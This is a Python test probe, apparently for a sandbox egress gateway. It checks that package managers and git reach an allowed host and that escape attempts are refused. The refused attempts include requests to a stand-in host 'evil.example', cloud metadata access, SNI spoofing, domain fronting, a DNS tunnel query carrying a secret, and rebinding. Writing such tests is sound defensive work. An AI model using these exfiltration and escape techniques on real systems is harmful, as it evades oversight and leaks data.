"""What a session tries: real clients that should get through, and all that should not.

Runs inside, with the machine's own Python; prints one JSON object: what became of each try.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor

TOLD = json.loads(sys.argv[1])  # addresses of the test internet, and a port of this machine
HERE = os.getcwd()
CA = {
    **dict.fromkeys(
        ("SSL_CERT_FILE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO", "PIP_CERT"), f"{HERE}/ca.pem"
    ),
    "NODE_EXTRA_CA_CERTS": f"{HERE}/ca.pem",
}
PROXY = os.environ.get("OUTRIG_PROXY", "")
PROXIED = dict.fromkeys(("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"), PROXY)


def run(*argv: str, proxied: bool = False, seconds: float = 40, **env: str) -> str:
    more = {**CA, **(PROXIED if proxied else {}), **env}
    try:
        done = subprocess.run(
            argv, env={**os.environ, **more}, capture_output=True, timeout=seconds, check=False
        )
    except subprocess.TimeoutExpired:
        return "does not end"
    words = (done.stdout + done.stderr).decode(errors="replace")[-300:]
    return "ok" if done.returncode == 0 else f"{done.returncode}: {words}"


def curl(url: str, *words: str, **how: object) -> str:
    return run("curl", "-fsS", "-m", "8", "-o", "/dev/null", *words, url, **how)  # type: ignore[arg-type]


def clients(*, proxied: bool) -> dict[str, str]:
    tag = "proxied" if proxied else "direct"
    sources = f"{HERE}/apt-{tag}"
    os.makedirs(f"{sources}/lists/partial")
    os.makedirs(f"{sources}/archives/partial")
    with open(f"{sources}/sources.list", "w") as file:
        file.write("deb [trusted=yes] http://good.example/apt ./\n")
    apt = [
        *(f"-oDir::Etc::sourcelist={sources}/sources.list", "-oDir::Etc::sourceparts=-"),
        *(f"-oDir::State::lists={sources}/lists", f"-oDir::Cache={sources}"),
        *("-oDir::State::status=/dev/null", "-oAPT::Sandbox::User=", "-oAcquire::Retries=0"),
        "-oAPT::Update::Error-Mode=any",
    ]
    tries = {
        "curl https": lambda: curl("https://good.example/hello", proxied=proxied),
        "curl http": lambda: curl("http://good.example/hello", proxied=proxied),
        "git": lambda: run(
            *("git", "clone", "-q", "https://good.example/repo.git", f"{HERE}/clone-{tag}"),
            proxied=proxied,
        ),
        "pip": lambda: run(
            *("/usr/bin/python3", "-m", "pip", "install", "-q", "--no-cache-dir", "--target"),
            *(f"{HERE}/pip-{tag}", "--index-url", "https://good.example/simple", "outrig-probe"),
            proxied=proxied,
            PIP_CONFIG_FILE="/dev/null",
        ),
        "npm": lambda: run(
            *("npm", "install", "--silent", "--registry", "https://good.example/npm/"),
            *("--prefix", f"{HERE}/npm-{tag}", "--cache", f"{HERE}/npm-cache-{tag}"),
            *("--cafile", f"{HERE}/ca.pem", "outrig-probe"),
            proxied=proxied,
        ),
        "apt": lambda: run("apt-get", *apt, "update", proxied=proxied),
    }
    with ThreadPoolExecutor(3) as pool:
        return dict(zip(tries, pool.map(lambda one: one(), tries.values()), strict=True))


def greeting() -> str:
    with socket.create_connection(("good.example", 2222), 10) as line:
        first = line.recv(100)
        line.sendall(b"SSH-2.0-client\r\n")
        return "ok" if first == b"SSH-2.0-test\r\n" and line.recv(100) else f"{first!r}"


def connects(host: str, port: int, family: int = socket.AF_INET) -> str:
    """Whether anything is said back: the gateway may take a connection only to end it."""
    try:
        with socket.socket(family, socket.SOCK_STREAM) as line:
            line.settimeout(4)
            line.connect((host, port))
            line.sendall(b"GET /leak HTTP/1.1\r\nHost: good.example\r\n\r\n")
            return "reached" if line.recv(100) else "no"
    except OSError:
        return "no"


def asked(host: str, port: int, data: bytes) -> str:
    """Whether a question about a name is answered with anything but that there is none."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.settimeout(3)
            line.sendto(data, (host, port))
            return "no" if line.recv(512)[3] & 15 else "reached"
    except OSError:
        return "no"


def ping(host: str) -> str:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as line:
            line.settimeout(3)
            line.sendto(b"\x08\0\0\0\0\0\0\0", (host, 1))
            return "reached" if line.recv(100) else "no"
    except OSError:
        return "no"


def raw() -> str:
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    except OSError:
        return "no"
    return "reached"


def lies(name: str, *, by_proxy: bool) -> str:
    """TLS to the good host that names another one in its hello."""
    context = ssl._create_unverified_context()
    try:
        if by_proxy:
            host, _, port = PROXY.removeprefix("http://").partition(":")
            line = socket.create_connection((host, int(port)), 5)
            line.sendall(b"CONNECT good.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n")
            if b" 200 " not in line.recv(1000):
                return "no"
        else:
            line = socket.create_connection(("good.example", 443), 5)
        line.settimeout(8)
        with context.wrap_socket(line, server_hostname=name):
            return "reached"
    except OSError:
        return "no"


def fronted() -> str:
    """Plain HTTP to the good host that asks for another one."""
    try:
        with socket.create_connection(("good.example", 80), 5) as line:
            line.sendall(b"GET /fronted HTTP/1.1\r\nHost: evil.example\r\n\r\n")
            return "no" if b" 403 " in line.recv(1000)[:20] else "reached"
    except OSError:
        return "no"


def refusals() -> dict[str, str]:
    port = TOLD["port"]
    question = bytes.fromhex("abcd01000001000000000000") + b"\4evil\7example\0\0\1\0\1"
    tunnel = bytes.fromhex("abcd01000001000000000000") + b"\x0bs3cr3tword0\4evil\7example\0\0\1\0\1"
    tries = {
        "another host": lambda: curl("https://evil.example/leak"),
        "another host by the proxy": lambda: curl("https://evil.example/leak", proxied=True),
        "another host by socks": lambda: curl(
            "http://evil.example/leak", "--proxy", PROXY.replace("http:", "socks5h:")
        ),
        "its address": lambda: connects(TOLD["evil"], 80),
        "its address by the proxy": lambda: curl(f"http://{TOLD['evil']}/leak", proxied=True),
        "the good host's address": lambda: connects(TOLD["good"], 80),
        "metadata": lambda: curl("http://metadata.example/"),
        "metadata's address": lambda: connects("169.254.169.254", 80),
        "a name with a private address": lambda: curl("http://both.example/hello"),
        "UDP": lambda: asked(TOLD["resolver"], 53, question),
        "ICMP": lambda: ping(TOLD["good"]),
        "raw frames": raw,
        "a lie in TLS": lambda: lies("evil.example", by_proxy=False),
        "a lie in TLS by the proxy": lambda: lies("evil.example", by_proxy=True),
        "a lie in HTTP": fronted,
        "the engine's resolver": lambda: asked("127.0.0.11", 53, tunnel),
        **{f"this machine, {one}": connecting(one, port) for one in TOLD["machine"]},
        **{f"this machine, {one}": connecting(one, port, six=True) for one in TOLD["six"]},
        **{f"another session, {one}": connecting(one, at) for one, at in TOLD["other"]},
    }
    with ThreadPoolExecutor(8) as pool:
        found = dict(zip(tries, pool.map(lambda one: one(), tries.values()), strict=True))
    return {name: "no" if words[:1].isdigit() else words for name, words in found.items()}


def connecting(host: str, port: int, *, six: bool = False):
    return lambda: connects(host, port, socket.AF_INET6 if six else socket.AF_INET)


def main() -> None:
    found: dict[str, object] = {}
    for name in sys.argv[2:]:
        if name == "clients":
            found["direct"] = clients(proxied=False)
            found["proxied"] = clients(proxied=True)
            found["greeting"] = greeting()
        elif name == "refusals":
            found["refused"] = refusals()
        elif name == "rebind":
            found["rebind"] = [curl("http://rebind.example/hello") for _ in range(2)]
    sys.stdout.write(json.dumps(found))


main()
